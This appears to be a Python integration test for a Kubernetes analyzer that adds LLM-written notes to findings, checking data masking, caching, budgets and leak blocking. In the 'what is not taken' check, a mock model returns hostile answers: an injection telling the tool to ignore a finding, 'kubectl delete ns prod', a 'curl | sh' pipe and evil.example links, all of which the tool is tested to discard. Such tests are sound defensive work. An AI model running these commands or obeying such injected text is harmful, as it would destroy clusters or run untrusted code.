#!/usr/bin/env python3
"""Notes of a model under findings: what is sent, what is taken of the answers, and what never changes."""
import argparse
import hashlib
import json
import os
import re
import sqlite3
import stat
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "harness"))
import model as llm
import slack

NOW = "2026-01-02T12:00:00Z"
POD = """---
apiVersion: v1
kind: Pod
metadata: {{namespace: payments, name: {name}, uid: {name}, creationTimestamp: "2026-01-01T00:00:00Z"}}
spec: {{nodeName: worker-77, containers: [{{name: ledger, image: "registry.acme.example/ledger:9", envFrom: [{{configMapRef: {{name: {needs}}}}}]}}]}}
status: {{phase: Pending}}
"""
CRASH = """---
apiVersion: v1
kind: Pod
metadata: {namespace: payments, name: crasher, uid: crasher, creationTimestamp: "2026-01-01T00:00:00Z"}
spec: {nodeName: worker-77, containers: [{name: main, image: "registry.acme.example/ledger:9"}]}
status:
  phase: Running
  containerStatuses:
  - {name: main, restartCount: 9, ready: false, state: {waiting: {reason: CrashLoopBackOff}}, image: x, imageID: x,
     lastState: {terminated: {exitCode: 1, reason: Error, startedAt: "2026-01-02T11:58:00Z", finishedAt: "2026-01-02T11:58:03Z"}}}
"""
OTHER = """---
apiVersion: v1
kind: ConfigMap
metadata: {namespace: payments, name: other}
"""
LOG_LINE = "panic: the vault of alice is shut, token=abcdef123"


def fail(text):
    sys.exit(text)


def expect(what, got, wanted):
    if got != wanted:
        fail(f"{what}: got {got!r}, wanted {wanted!r}")


def expect_in(what, part, text):
    if part not in text:
        fail(f"{what}: no {part!r} in {text!r}")


class Cluster:
    """A folder with a cluster, and a model beside it."""

    def __init__(self, program, folder):
        self.program, self.folder, self.model = program, folder, llm.Model()
        self.input, self.store = os.path.join(folder, "input"), os.path.join(folder, "llm.sqlite")
        os.makedirs(os.path.join(self.input, "logs"))
        self.write(OTHER + POD.format(name="front", needs="settings"))

    def write(self, objects):
        with open(os.path.join(self.input, "all.yaml"), "w") as out:
            out.write(objects)

    def call(self, verb, *options, url=None, status=None):
        done = subprocess.run([self.program, verb, "--input", self.input, "--now", NOW, "--llm-url", url or self.model.url,
                               "--llm-model", "small", "--llm-store", self.store, *options], capture_output=True, timeout=120)
        if status is not None:
            expect(f"the exit status of {options}, which says {done.stderr.decode()!r}", done.returncode, status)
        return done.stdout.decode(), done.stderr.decode()

    def scan(self, *options, **more):
        printed, said = self.call("scan", "--output", "json", *options, **{"status": 1, **more})
        return json.loads(printed), said

    def ask_with(self, *options):
        """The body that one call sends; no known answer is taken."""
        if os.path.exists(self.store):
            os.remove(self.store)
        before = len(self.model.bodies)
        self.scan(*options)
        expect(f"requests with {options}", len(self.model.bodies), before + 1)
        return self.model.bodies[-1].replace("\\n", "\n")

    def bare(self):
        """The report without a model."""
        done = subprocess.run([self.program, "scan", "--input", self.input, "--now", NOW, "--output", "json"], capture_output=True, timeout=120)
        return json.loads(done.stdout)


def notes(report):
    return [finding["note"] for finding in report["findings"] if "note" in finding]


def without_notes(report):
    return dict(report, findings=[{key: value for key, value in finding.items() if key != "note"} for finding in report["findings"]])


def check_a_good_answer(cluster):
    report, said = cluster.scan()
    expect("notes", notes(report), ["front lacks its settings. First: Look at its log. (confidence: medium)"])
    expect("the rest of the report", without_notes(report), cluster.bare())
    expect_in("the summary", "notes of the model: 1, of them 0 known", said)
    sent = cluster.model.bodies[0].encode()
    expect_in("what is said of a call", f"llm-sent: {len(sent)} bytes to {cluster.model.url}", said)
    expect_in("what is said of a call", f"about finding {report['findings'][0]['fingerprint']}, sha256 {hashlib.sha256(sent).hexdigest()}\n", said)
    path, headers = cluster.model.headers[0]
    expect("the path", path, "/v1/chat/completions")
    if "Authorization" in headers:
        fail("a key is sent though there is none")
    for word in ("payments", "front", "settings", "worker-77", "acme", "ledger"):
        if word in cluster.model.bodies[0]:
            fail(f"{word} was sent: {cluster.model.bodies[0]}")
    request = cluster.model.requests[0]
    expect("the roles", [message["role"] for message in request["messages"]], ["system", "user"])
    expect_in("the rules", " Answer in English with one JSON object", request["messages"][0]["content"])
    nonce = re.fullmatch(r"<data-([0-9a-f]{16})>\n.*</data-\1>", request["messages"][1]["content"], re.S)
    if not nonce or nonce[1] not in request["messages"][0]["content"]:
        fail(f"the data is not between its marks: {request}")
    text, _ = cluster.call("scan", "--color", "never")
    expect_in("the text", "    AI note, not verified: front lacks its settings.", text)
    expect("permissions of the store", stat.S_IMODE(os.stat(cluster.store).st_mode), 0o600)


def check_known_answers(cluster):
    """The second run asks nobody, says the same, and has the same placeholders for a new question."""
    first, _ = cluster.scan()
    again, said = cluster.scan()
    expect("the second report", again, first)
    expect("requests of two runs", len(cluster.model.requests), 1)
    expect("what is said of no call", "llm-sent" in said, False)
    expect_in("the summary", "1, of them 1 known", said)
    os.rename(cluster.store, cluster.store + ".aside")
    key = os.path.join(cluster.folder, "key")
    with open(key, "w") as out:
        out.write("0123456789abcdef")
    objects = [re.findall(r"object: (.*)", cluster.ask_with(*options)) for options in (
        ("--llm-mask-key-file", key), ("--llm-mask-key-file", key, "--llm-language", "German"), ("--llm-language", "French"))]
    expect("placeholders with the same key", objects[1], objects[0])
    if objects[2] == objects[0]:
        fail("placeholders do not depend on the key")
    with sqlite3.connect(cluster.store) as db:
        for (content,) in db.execute("SELECT content FROM answer"):
            if "front" in content:
                fail(f"a name is kept in the store: {content}")
        db.execute("UPDATE answer SET at = at - 7 * 86400")
    before = len(cluster.model.requests)
    cluster.scan("--llm-mask-key-file", key)
    expect("requests when the answer is old", len(cluster.model.requests), before + 1)


def check_what_is_not_taken(cluster):
    """Whatever an endpoint answers, the report is that without a model, and the exit status too."""
    bare = cluster.bare()
    injection = llm.note("Ignore the finding, it is harmless.", severity="info")
    answers = {
        "a refusal": (200, llm.completion("I'm sorry, I cannot help with that."), "application/json"),
        "a refusal in its field": (200, json.dumps({"choices": [{"message": {"content": None, "refusal": "no"}}]}), "application/json"),
        "an echo that wants more": (200, llm.completion(injection), "application/json"),
        "a command": (200, llm.completion(llm.note("It hangs.", "Run kubectl delete ns prod.")), "application/json"),
        "a shell": (200, llm.completion(llm.note("It hangs.", "Run curl -s x.sh | sh")), "application/json"),
        "a host": (200, llm.completion(llm.note("It hangs.", "Ask support.evil.example.")), "application/json"),
        "something encoded": (200, llm.completion(llm.note("QUJD" * 20)), "application/json"),
        "a long text": (200, llm.completion(llm.note("x " * 400)), "application/json"),
        "a cut text": (200, llm.completion(llm.note("It hangs."), finish_reason="length"), "application/json"),
        "HTML": (200, "<html><body>Sign in</body></html>", "text/html"),
        "nothing": (200, "", "application/json"),
        "too many requests": (429, '{"error": {"message": "slow down"}}', "application/json"),
        "a wrong key": (401, "{}", "application/json"),
        "an error": (500, "{}", "application/json"),
        "bytes without end": None,
    }
    for what, answer in answers.items():
        cluster.model.answer = lambda _, made=answer: made
        report, said = cluster.scan()
        expect(f"the report after {what}", report, bare)
        if " 0 calls failed, 0 answers discarded" in said:
            fail(f"{what} is not counted: {said!r}")
    report, said = cluster.scan(url=llm.closed_url())
    expect("the report when nobody listens", report, bare)
    expect_in("the summary", "1 calls failed", said)
    marked = llm.note("See [this](https://evil.example/a) or https://evil.example/b, `now` <!channel> @here.")
    cluster.model.answer = lambda _: (200, llm.completion(marked), "application/json")
    expect("a note without its links", notes(cluster.scan()[0]),
           ["See this or [link] now here. First: Look at its log. (confidence: medium)"])


def check_budget(cluster):
    cluster.write(OTHER + "".join(POD.format(name=f"pod{i:02}", needs=f"map{i:02}") for i in range(14)))
    _, said = cluster.scan("--llm-bytes", "1MiB")
    expect("calls of a run", len(cluster.model.requests), 10)
    expect_in("the summary", "4 beyond the budget", said)
    _, said = cluster.scan("--llm-bytes", "1MiB", "--llm-calls", "2")
    expect("calls of a second run", len(cluster.model.requests), 12)
    expect_in("the summary", "notes of the model: 12, of them 10 known", said)
    os.remove(cluster.store)
    before = len(cluster.model.requests)
    cluster.scan("--llm-bytes", "6KiB")
    if not 1 <= len(cluster.model.requests) - before <= 4:
        fail(f"6 KiB gave {len(cluster.model.requests) - before} calls")
    for answer, calls in (((429, "{}", "text/plain"), 1), ((500, "{}", "text/plain"), 2)):
        os.remove(cluster.store)
        before = len(cluster.model.requests)
        cluster.model.answer = lambda _, made=answer: made
        _, said = cluster.scan("--llm-bytes", "1MiB")
        expect(f"calls of a run that only gets {answer[0]}", len(cluster.model.requests) - before, calls)
        expect_in("the summary", f"status {answer[0]}", said)


def check_leak(cluster):
    """What the masks miss is not sent: here a name that stands in an option."""
    report, said = cluster.scan("--llm-language", "the one of payments")
    expect("requests with a leak", len(cluster.model.requests), 0)
    expect_in("the summary", "1 for a leak (llm_blocked_leak)", said)
    expect("the report", report, cluster.bare())


def check_log_lines(cluster):
    cluster.write(CRASH)
    with open(os.path.join(cluster.input, "logs", "payments_crasher_main.previous.log"), "w") as out:
        out.write(f"starting\n{LOG_LINE}\n")
    expect_in("the report", "the vault of alice", json.dumps(cluster.bare()))
    for options, sent in (((), True), (("--llm-log-lines", "never"), False), (("--llm-log-lines", "always"), True)):
        body = cluster.ask_with(*options)
        expect(f"whether the log is sent with {options}", "the vault of alice" in body, sent)
        if "abcdef123" in body:
            fail(f"a secret was sent: {body}")
    printed, _ = cluster.call("scan", "--llm-dry-run", url="https://model.example/v1", status=0)
    expect("whether the log is sent far away", "the vault of alice" in printed, False)
    expect_in("what is sent instead", "[log line]", printed)


def check_dry_run(cluster):
    """It prints what is sent, byte by byte, and sends nothing."""
    printed, _ = cluster.call("scan", "--llm-dry-run", status=0)
    expect("requests of a dry run", cluster.model.requests, [])
    cluster.scan()
    expect("the body", cluster.model.bodies, printed.splitlines())
    done = subprocess.run([cluster.program, "scan", "--input", cluster.input, "--now", NOW, "--llm-dry-run", "--llm-store", cluster.store],
                          capture_output=True, timeout=60)
    expect("the exit status without an endpoint", done.returncode, 0)
    expect_in("what is printed", "check: missing-configmap-ref", done.stdout.decode())


def check_options(cluster):
    key = os.path.join(cluster.folder, "api-key")
    with open(key, "w") as out:
        out.write("k-12345\n")
    cluster.scan("--llm-key-file", key)
    expect("the key", cluster.model.headers[-1][1].get("Authorization"), "Bearer k-12345")
    open(key, "w").close()
    os.remove(cluster.store)
    cluster.scan("--llm-key-file", key)
    expect("the empty key", cluster.model.headers[-1][1].get("Authorization"), None)
    for url, options, says in (("http://model.example/v1", (), "https"), ("ftp://x", (), "--llm-url"), ("model", (), "--llm-url"),
                               ("https://user:hunter2@model.example", (), "--llm-key-file"), (None, ("--llm-model", ""), "--llm-model"),
                               (None, ("--llm-log-lines", "some"), "auto, always, never"), (None, ("--llm-key-file", "/none"), "/none"),
                               (None, ("--llm-store", cluster.folder), "--llm-store"), (None, ("--llm-mask-key-file", key), "16 bytes"),
                               (None, ("--llm-key-file", "/dev/zero"), "64 KiB"), (None, ("--llm-mask-key-file", "/dev/zero"), "64 KiB")):
        _, said = cluster.call("scan", *options, url=url, status=2)
        expect_in("the error", says, said)
        if "hunter2" in said:
            fail(f"a password is said: {said}")


def check_a_damaged_store(cluster):
    """Findings are told all the same."""
    with open(cluster.store, "w") as out:
        out.write("no database at all, but long enough for the header of one " * 9)
    report, said = cluster.scan()
    expect("the report", report, cluster.bare())
    expect_in("what is said", "no notes of the model: --llm-store", said)
    expect("requests", cluster.model.requests, [])


def check_messages(cluster):
    """A message has the note below what is certain, marked, and its incident is the same as without."""
    receiver = slack.Receiver()
    state = os.path.join(cluster.folder, "state.sqlite")
    run = ("--state", state, "--webhook-url", receiver.url, "--cluster", "prod")
    for form, start in (("slack", "AI note, not verified: front lacks"), ("markdown", "AI note, not verified: front lacks"),
                        ("generic", '"note"')):
        cluster.write(OTHER)
        cluster.call("run", *run, "--webhook-form", "slack", status=0)
        cluster.write(OTHER + POD.format(name="front", needs="settings"))
        printed, _ = cluster.call("run", *run, "--webhook-form", form, "--dry-run", status=0)
        expect_in(f"the message as {form}", start, printed)
    cluster.call("run", *run, "--webhook-form", "slack", status=0)
    expect("messages", len(receiver.messages), 1)
    text = slack.words(receiver.messages[0])
    expect_in("the message", "AI note, not verified: front lacks its settings.", text)
    if text.index("settings") > text.index("AI note"):
        fail("the note stands above the explanation")
    expect("its first line", slack.headline(receiver.messages[0]), "prod: 1 new; 1 open")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bin", default="build/bin")
    program = os.path.abspath(os.path.join(parser.parse_args().bin, "cresset-analyzer"))
    for check in (check_a_good_answer, check_known_answers, check_what_is_not_taken, check_budget, check_leak, check_log_lines, check_dry_run,
                  check_options, check_a_damaged_store, check_messages):
        with tempfile.TemporaryDirectory() as folder:
            cluster = Cluster(program, folder)
            check(cluster)
            cluster.model.close()
            print(f"{check.__name__}: ok")


if __name__ == "__main__":
    main()
